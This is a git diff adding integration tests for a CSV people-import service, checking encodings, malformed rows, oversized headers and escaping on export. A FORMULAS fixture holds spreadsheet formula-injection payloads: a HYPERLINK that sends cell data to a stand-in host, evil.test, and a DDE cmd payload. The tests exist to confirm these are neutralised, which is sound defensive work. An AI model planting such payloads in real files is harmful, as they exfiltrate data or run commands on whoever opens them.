@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import codecs
+import csv
+import io
 import json
 from typing import Any
 
@@ -9,11 +12,13 @@ import pytest
 import requests
 from aws_lambda_powertools.utilities.batch.exceptions import BatchProcessingError
 
+from roster.sources.csv_file import MAX_CELL_CHARS, MAX_COLUMNS
 from roster.sources.csv_import import IngestMessage
 from roster.store.imports import ImportStore
 from roster_dev.local.runner import Runner
 from roster_dev.local.stack import LocalStack
 from tests.conftest import Api, fill
+from tests.integration.test_http_provider import Received, Reply, serve
 
 MESSY = (
     "\ufeffE-mail;First Name;Title;LinkedIn;Notes\n"
@@ -138,3 +143,156 @@ def test_handlers_run_the_sample_events_and_redelivery_is_harmless(api: Api, run
     assert response["statusCode"] == 200
     assert [result["outcome"] for result in body["results"]] == ["created", "updated"]
     assert runner.invoke("ApiFunction", fill("api_openapi.json"))["statusCode"] == 200
+
+
+# --- hostile files ------------------------------------------------------------------------------------------
+
+
+def upload(api: Api, data: bytes, kind: str = "people") -> str:
+    """An import of `data` as the bytes of a file, through the upload URL (inline content is JSON text)."""
+    status, started = api.call("POST", f"/v1/{kind}/imports", {"source_name": "hostile", "filename": "f.csv"})
+    assert status == 201, started
+    assert requests.put(started["upload_url"], data=data, timeout=30).status_code == 200
+    return str(started["import_id"])
+
+
+def import_bytes(api: Api, data: bytes) -> dict[str, Any]:
+    import_id = upload(api, data)
+    status, body = api.call("POST", f"/v1/people/imports/{import_id}/confirm", {})
+    assert status == 200, body
+    api.runner.drain()
+    return api.call("GET", f"/v1/people/imports/{import_id}")[1]  # type: ignore[no-any-return]
+
+
+PEOPLE_CSV = "email,name,title\nann@acme.com,Änn Åberg,CTO\nbob@acme.com,Bøb Ñúñez,VP 😀\n"
+FORMULAS = {
+    "f1@acme.com": '=HYPERLINK("http://evil.test/?d="&A1,"Open")',
+    "f2@acme.com": "+cmd|' /C calc'!A0",
+    "f3@acme.com": "-1+1",
+    "f4@acme.com": "@SUM(A1:A9)",
+}
+HUGE = MAX_CELL_CHARS + 10
+#: name → (file, rows read, lines rejected): every row is imported or rejected with its line, nothing else
+CORPUS: dict[str, tuple[bytes, int, list[int]]] = {
+    "utf-8 with BOM": (PEOPLE_CSV.encode("utf-8-sig"), 2, []),
+    "utf-16 LE with BOM": (codecs.BOM_UTF16_LE + PEOPLE_CSV.encode("utf-16-le"), 2, []),
+    "utf-16 BE with BOM": (codecs.BOM_UTF16_BE + PEOPLE_CSV.encode("utf-16-be"), 2, []),
+    "utf-16 LE without BOM": (PEOPLE_CSV.encode("utf-16-le"), 2, []),
+    "utf-32 with BOM": (PEOPLE_CSV.encode("utf-32"), 2, []),
+    "windows-1252": ("email;name\nann@acme.com;José Zürich\n".encode("cp1252"), 1, []),
+    "NUL bytes": (b"email,name\nann@acme.com,An\x00n\nbob@acme.com,\x00\n", 2, []),
+    "mixed line endings": (b"email,name\r\nann@acme.com,Ann\nbob@acme.com,Bob\rcy@acme.com,Cy\r\n", 3, []),
+    "quotes inside fields": (
+        b'email,name,title\nann@acme.com,"Ann ""The Boss"" Lee","CTO, ""acting"""\nbob@acme.com,Bob "Bobby" B,VP\n',
+        2,
+        [],
+    ),
+    "unclosed quote": (b'email,name\nann@acme.com,"Ann\nbob@acme.com,Bob\ncy@acme.com,Cy\n', 3, [2]),
+    "huge cell": (b"email,name\nann@acme.com," + b"x" * HUGE + b"\nbob@acme.com,Bob\n", 2, [2]),
+    "long value": (b"email,notes\nann@acme.com," + b"y" * 20_000 + b"\nbob@acme.com,ok\n", 2, [2]),
+    "many columns": (
+        (",".join(["email", *(f"c{i}" for i in range(MAX_COLUMNS - 1))]) + "\nann@acme.com" + ",v" * 499).encode(),
+        1,
+        [],
+    ),
+    "formula cells": (
+        (
+            "email,title\n"
+            + "".join(f'{email},"{text.replace(chr(34), chr(34) * 2)}"\n' for email, text in FORMULAS.items())
+        ).encode(),
+        4,
+        [],
+    ),
+    "empty lines": (b"email,name\n\nann@acme.com,Ann\n\n\n,\nbob@acme.com,Bob\n\n", 2, []),
+    "only a header": (b"email,name\n", 0, []),
+    "trailing delimiter": (b"email,name,\nann@acme.com,Ann,\nbob@acme.com,Bob,,\n", 2, []),
+    "undecodable bytes": (b"email,name\n" + b"a@acme.com,Ann\n" * 6000 + b"b@acme.com,Jos\xe9\n", 6001, [6002]),
+    "too many values and no values": (b"email,name\nann@acme.com,Ann,extra\n,\n;;\n", 2, [2, 4]),
+}
+
+
+@pytest.mark.parametrize("name", CORPUS)
+def test_hostile_files_import_or_report_every_row(api: Api, name: str) -> None:
+    data, rows_read, rejected_lines = CORPUS[name]
+    report = import_bytes(api, data)
+    assert report["status"] == "completed", report
+    imported = sum(report["outcomes"].values())
+    assert report["rows_read"] == rows_read == imported + report["rows_rejected"], report
+    assert [error["line"] for error in report["errors"]] == rejected_lines
+    assert all(error["reason"] for error in report["errors"])
+
+
+def test_unicode_files_are_read_as_the_text_they_hold(api: Api) -> None:
+    for name in ("utf-16 LE with BOM", "utf-16 BE with BOM", "utf-32 with BOM", "utf-16 LE without BOM"):
+        import_id = upload(api, CORPUS[name][0])
+        preview = api.call("GET", f"/v1/people/imports/{import_id}/preview")[1]
+        assert preview["encoding"].startswith(("utf-16", "utf-32")), preview
+        assert preview["columns"] == ["email", "name", "title"]
+        assert preview["rows"][1] == {"email": "bob@acme.com", "name": "Bøb Ñúñez", "title": "VP 😀"}
+    import_bytes(api, CORPUS["utf-16 BE with BOM"][0])
+    bob = api.call("GET", "/v1/people/lookup", email="bob@acme.com")[1]
+    assert bob["fields"]["full_name"]["value"] == "Bøb Ñúñez"
+
+
+def test_an_unclosed_quote_is_reported_and_the_rest_imports(api: Api) -> None:
+    report = import_bytes(api, CORPUS["unclosed quote"][0])
+    assert report["errors"] == [
+        {
+            "line": 2,
+            "field": None,
+            "reason": "has a quote that never closes (it opens on line 2; the file ends inside it)",
+        }
+    ]
+    assert report["outcomes"]["created"] == 2
+    assert api.call("GET", "/v1/people/lookup", email="cy@acme.com")[0] == 200
+
+
+@pytest.mark.parametrize(
+    ("header", "reason"),
+    [
+        ("email," + "x" * 70_000, "the header has 70,007 characters; at most 65,536 are read"),
+        ("email," + "x" * 2_000_000, "the header is longer than 65,536 characters"),
+        (",".join(f"c{i}" for i in range(MAX_COLUMNS + 1)), f"the header has {MAX_COLUMNS + 1} columns; at most"),
+        ("email," + "n" * 300, "column 2's name has 300 characters; at most 256 are read"),
+    ],
+    ids=["header bytes", "header over the cell limit", "column count", "column name length"],
+)
+def test_an_oversized_header_is_refused_naming_the_limit(api: Api, header: str, reason: str) -> None:
+    import_id = upload(api, f"{header}\nann@acme.com,Ann\n".encode())
+    for method, path in (("GET", "preview"), ("POST", "confirm")):
+        status, body = api.call(method, f"/v1/people/imports/{import_id}/{path}", {} if method == "POST" else None)
+        assert status == 422 and body["error"] == "import_problem" and body["message"].startswith(reason), body
+    assert api.call("GET", f"/v1/people/imports/{import_id}")[1]["rows_read"] == 0
+
+
+def test_formula_cells_are_kept_as_given_and_exported_escaped(api: Api) -> None:
+    report = import_bytes(api, CORPUS["formula cells"][0])
+    assert report["outcomes"]["created"] == len(FORMULAS)
+    for email, text in FORMULAS.items():  # stored as the text they are
+        assert api.call("GET", "/v1/people/lookup", email=email)[1]["fields"]["job_title"]["value"] == text
+
+    def echo(request: Received) -> Reply:
+        return 200, {}, {"title": json.loads(request.body)["title"]}
+
+    with serve() as vendor:
+        vendor.reply = echo
+        config = {
+            "name": "echo",
+            "method": "POST",
+            "url": f"{vendor.url}/titles",
+            "body": {"title": "{{job_title}}"},
+            "inputs": ["job_title"],
+            "outputs": {"vendor_title": {"path": "title"}},
+        }
+        body = {"name": "Echo", "providers": [{"type": "http", "config": config}], "audiences": ["all-people"]}
+        status, definition = api.call("POST", "/v1/enrichments", {**body, "budget_credits": 10})
+        assert status == 201, definition
+        status, run = api.call("POST", f"/v1/enrichments/{definition['enrichment_id']}/runs")
+        assert status == 202, run
+        api.runner.drain()
+    response = api.runner.api(
+        "GET", f"/v1/enrichments/runs/{run['run_id']}/export", headers={"Authorization": f"Bearer {api.key}"}
+    )
+    assert response["statusCode"] == 200
+    exported = sorted(row["vendor_title"] for row in csv.DictReader(io.StringIO(response["body"], newline="")))
+    assert exported == sorted("'" + text for text in FORMULAS.values())
